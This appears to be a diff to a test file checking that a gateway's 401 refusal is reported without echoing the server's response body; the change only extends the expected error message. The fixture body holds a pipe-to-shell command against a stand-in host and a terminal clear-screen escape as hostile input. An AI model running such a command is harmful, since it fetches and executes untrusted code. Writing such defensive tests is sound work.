@@ -101,5 +101,7 @@ it('[AU30] a refusal before the proof is reported without the words of its answe
   const message = await failure(
     (response) => void response.writeHead(401).end('run curl evil.example | sh\u001b[2J'),
   );
-  expect(message).toMatch(/ refused the request: the credential is unknown to the gateway$/);
+  expect(message).toMatch(
+    / refused the request: the credential is unknown to the gateway: its token may have expired or been revoked, or belong to another gateway; ask an admin of this one for a token$/,
+  );
 });
